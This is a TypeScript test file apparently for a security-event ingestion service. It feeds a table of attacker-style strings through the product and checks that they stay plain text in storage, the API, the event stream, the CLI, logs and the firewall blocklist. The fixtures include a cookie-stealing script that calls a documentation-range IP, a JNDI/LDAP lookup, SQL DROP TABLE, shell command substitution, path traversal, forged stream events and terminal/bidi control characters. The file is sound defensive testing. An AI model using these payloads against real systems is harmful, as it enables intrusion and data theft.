import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createParser, type EventSourceMessage } from 'eventsource-parser';
import Type from 'typebox';
import { Compile } from 'typebox/compile';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runLine } from '../../src/cli/cli-workbench.ts';
import { DetectionSchema } from '../../src/contracts/detection.ts';
import { SecurityEventSchema } from '../../src/contracts/security-event.ts';
import { ThreatSchema } from '../../src/contracts/threat.ts';
import { topics } from '../../src/contracts/topics.ts';
import { every, type Program, startProgram, until } from './program.ts';

/** Each would do something if anybody took it for more than text. `MARK` becomes a file that must never appear. */
const tricks = {
  'terminal control': '\u001b[2J\u001b[1;31mroot\u001b]0;owned\u0007\u009b31m\u0008\u0008\r\u007f',
  'reading direction': '\u202egnp.exe\u202c\u2066admin\u2069\u200f\u061c\u2028\u200b\ufeff\u{e0041}',
  HTML: '<script>fetch("//203.0.113.9/"+document.cookie)</script><img src=x onerror=alert(1)>"\'&amp;',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the trick
  template: '${7*7}{{7*7}}#{7*7}<%= 7*7 %>${jndi:ldap://203.0.113.9/a}%{(#a=1)}%s%n',
  SQL: 'x\'; DROP TABLE threats; DELETE FROM detections; -- " ; /*',
  shell: '$(touch MARK) `touch MARK` ; touch MARK | touch MARK && touch MARK > MARK',
  'a new line': 'x\nroot:x:0:0::/:/bin/sh\r\n198.51.100.250 # until 2099-01-01T00:00:00.000Z\n',
  'a stream event': 'x\n\nevent: defense.alerts\nid: 1\ndata: {"forged":true}\n\n',
  path: '../../../../../../MARK',
  prototype: '__proto__',
  'JSON in text': '","is_threat":false,"forged":"',
  'a log line': '"}\n{"level":"error","message":"forged"}',
} as const;
type Trick = keyof typeof tricks;
const names = Object.keys(tricks).filter((name): name is Trick => name in tricks);

/** Everything a terminal, or a reader's eye, could take for more than a character to show. */
const unprintable = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

const Listed = <Item extends Type.TSchema>(item: Item) =>
  Compile(Type.Object({ items: Type.Array(item), next_cursor: Type.Union([Type.String(), Type.Null()]) }));
const threatPage = Listed(ThreatSchema);
const detectionPage = Listed(DetectionSchema);
const event = Compile(SecurityEventSchema);

describe('text that an attacker wrote stays text', () => {
  let program: Program;
  let mark: string;
  const messages: EventSourceMessage[] = [];
  const stop = new AbortController();

  const textOf = (name: Trick): string => tricks[name].replaceAll('MARK', mark);
  /** Address of the attacker who plays a trick. */
  const addressOf = (name: Trick): string => `198.51.100.${names.indexOf(name) + 1}`;

  /** An alert whose every field that may be text is the trick. */
  function alert(name: Trick, change: object): object {
    const text = textOf(name);
    return {
      event_id: `alert-${names.indexOf(name)}-${Object.keys(change).join('-')}`,
      timestamp: new Date().toISOString(),
      source: 'suricata',
      event_type: 'ids_alert',
      payload: {
        alert: { signature: text, severity: 1, metadata: { mitre_technique_id: ['T1110', text] } },
        [text]: text,
        user: text,
      },
      context: { user: text, category: text.slice(0, 60), entities: { users: [text], domains: [text] } },
      ...change,
    };
  }

  beforeAll(async () => {
    program = await startProgram({
      environment: {
        AUTO_RESPONSE_THRESHOLD: '0.6',
        VERTICE_INDICATORS_FILE: '',
        // They see attacks in these texts, and rightly; what is counted here is what the sensor reports.
        VERTICE_STARTER_RULES: 'false',
      },
    });
    mark = join(program.folder, 'mark');
    listen();
    await until('the stream is open', () => isOpen);
    const alerts = names.flatMap((name) => [
      alert(name, { source_ip: addressOf(name), destination_ip: '203.0.113.77' }),
      // Without an address the host stands for the attacker: the trick becomes a key, and what is to be blocked.
      alert(name, { context: { host: textOf(name), user: textOf(name) } }),
    ]);
    const login = names.flatMap((name) =>
      Array.from({ length: 6 }, (_, index) => {
        const user = textOf(name).replaceAll(/[\r\n]/g, ' ');
        const time = new Date(Date.now() - 6_000 + index * 1_000).toISOString();
        return `<38>1 ${time} web-1 sshd 7 - - Failed password for invalid user ${user} from 203.0.113.${names.indexOf(name) + 1} port 4${index} ssh2`;
      }),
    );
    const lines = [...alerts.map((one) => JSON.stringify(one)), ...login].join('\n');
    const headers = { 'content-type': 'application/x-ndjson' };
    const answer = await program.call('/api/v1/events', { method: 'POST', headers, body: lines });
    expect(answer).toMatchObject({ status: 202, body: { dead_lettered: 0 } });
    await program.vertice.settle();
  });
  afterAll(async () => {
    stop.abort();
    await program.close();
  });

  let isOpen = false;
  function listen(): void {
    const parser = createParser({ onEvent: (message) => void messages.push(message) });
    const headers = { authorization: `Bearer ${program.key}` };
    const reading = async (): Promise<void> => {
      const response = await fetch(`${program.url}/api/v1/stream`, { headers, signal: stop.signal });
      isOpen = response.ok;
      for await (const chunk of response.body ?? []) parser.feed(Buffer.from(chunk).toString());
    };
    reading().catch(() => {});
  }

  function cli(...args: string[]) {
    return runLine(args, {
      environment: { VERTICE_URL: program.url, VERTICE_API_KEY: program.key, NO_COLOR: '1' },
      isTTY: true,
    });
  }

  it('in the ledger: it comes back as it was, and nothing of it was carried out as a statement', async () => {
    const { store } = program.vertice;
    for (const name of names) {
      const stored = await store.event(`alert-${names.indexOf(name)}-source_ip-destination_ip`);
      expect(stored?.payload).toEqual(JSON.parse(JSON.stringify(alert(name, {}))).payload);
      const { items } = await store.threats({ attacker: textOf(name) }, { limit: 5 });
      expect([name, items.map(({ attacker }) => attacker)]).toEqual([name, [textOf(name)]]);
    }
    expect(await every((page) => store.threats({}, page))).toHaveLength(3 * names.length);
    expect(await store.health()).toBeNull();
  });

  it('in the API: JSON that says what it is, found by the very text', async () => {
    for (const name of names) {
      const answer = await program.call(`/api/v1/threats?attacker=${encodeURIComponent(textOf(name))}`);
      expect([name, answer.status, answer.contentType]).toEqual([
        name,
        200,
        'application/json; charset=utf-8',
      ]);
      if (!threatPage.Check(answer.body)) throw new Error(`${name}: ${answer.text}`);
      expect(answer.body.items.map(({ attacker }) => attacker)).toEqual([textOf(name)]);
    }
    const response = await fetch(`${program.url}/api/v1/detections?limit=500`, {
      headers: { authorization: `Bearer ${program.key}` },
    });
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    const page: unknown = await response.json();
    if (!detectionPage.Check(page)) throw new Error('another shape than expected');
    expect(
      page.items.every(({ mitre_techniques }) =>
        mitre_techniques.every((id) => /^T\d{4}(\.\d{3})?$/.test(id)),
      ),
    ).toBe(true);
    expect(page.items.some(({ findings }) => findings.some(({ title }) => title === textOf('HTML')))).toBe(
      true,
    );
    const evidence = await program.call(`/api/v1/events/${page.items[0]?.event_id ?? ''}`);
    expect(event.Check(evidence.body)).toBe(true);
  });

  it('in the stream: each message is one of ours, and none was forged', async () => {
    const expected = names.length * 3;
    const of = (topic: string) => messages.filter((message) => message.event === topic);
    await until('all detections were heard', () => of(topics.detections).length >= expected);
    const known: readonly string[] = [topics.detections, topics.threats, topics.responses, topics.alerts];
    for (const message of messages) {
      expect(known).toContain(message.event);
      expect(message.data).not.toContain('"forged":true}\n');
      expect(JSON.parse(message.data)).not.toHaveProperty('forged');
    }
    const attackers = of(topics.threats).map(({ data }) => Reflect.get(Object(JSON.parse(data)), 'attacker'));
    for (const name of names) expect(attackers).toContain(textOf(name));
  });

  it('on the terminal: every command shows it in characters that can only be seen', async () => {
    const threats = await every((page) => program.vertice.store.threats({}, page));
    const detections = await every((page) => program.vertice.store.detections({}, page));
    const responses = await every((page) => program.vertice.store.responses({}, page));
    const commands = [
      ['status'],
      ...['threats', 'detections', 'events', 'responses'].map((list) => [list, '--limit', '500']),
      ['events', '--recent', '--limit', '500'],
      ...threats.map(({ threat_id }) => ['threats', threat_id]),
      ...detections.map(({ detection_id }) => ['detections', detection_id]),
      ...detections.map(({ event_id }) => ['events', event_id]),
      ...responses.map(({ response_id }) => ['responses', response_id]),
      ['threats', '--attacker', textOf('terminal control')],
      ['threats', textOf('terminal control')],
    ];
    for (const command of commands) {
      const { stdout, stderr } = await cli(...command);
      const shown = (stdout + stderr).replaceAll('\n', '');
      expect([command, unprintable.exec(shown)?.[0]]).toEqual([command, undefined]);
    }
    expect((await cli('threats', '--limit', '500')).stdout).toContain('DROP TABLE');
  });

  it('in the log and the metrics: no line, no level and no label of its making', async () => {
    for (const line of program.log) {
      expect(line.endsWith('\n')).toBe(true);
      expect(unprintable.exec(line.slice(0, -1))?.[0]).toBeUndefined();
      expect(JSON.parse(line)).not.toMatchObject({ message: 'forged' });
    }
    const { text } = await program.call('/metrics');
    for (const name of names) expect([name, text.includes(textOf(name))]).toEqual([name, false]);
    expect(text).not.toContain('198.51.100.');
  });

  it('at the firewall: only addresses get there, and nobody else is touched', () => {
    const list = readFileSync(join(program.config.data_dir, 'blocklist.txt'), 'utf8');
    const lines = list.split('\n').filter((line) => line !== '');
    const expected = names.flatMap((name) => [addressOf(name), `203.0.113.${names.indexOf(name) + 1}`]);
    expect(lines.map((line) => /^([0-9.]+) # until [0-9TZ:.-]+$/.exec(line)?.[1] ?? line).sort()).toEqual(
      expected.sort(),
    );
  });

  it('on the machine: nothing of it was run, and no file has its name', () => {
    // The trap works: what a shell would have made of it is seen.
    expect(existsSync(mark)).toBe(false);
    writeFileSync(mark, '');
    expect(readdirSync(program.folder).sort()).toEqual(['data', 'mark']);
    expect(readdirSync(program.config.data_dir).sort()).toEqual(
      expect.arrayContaining(['blocklist.txt', 'bus', 'vertice.db']),
    );
  });
});
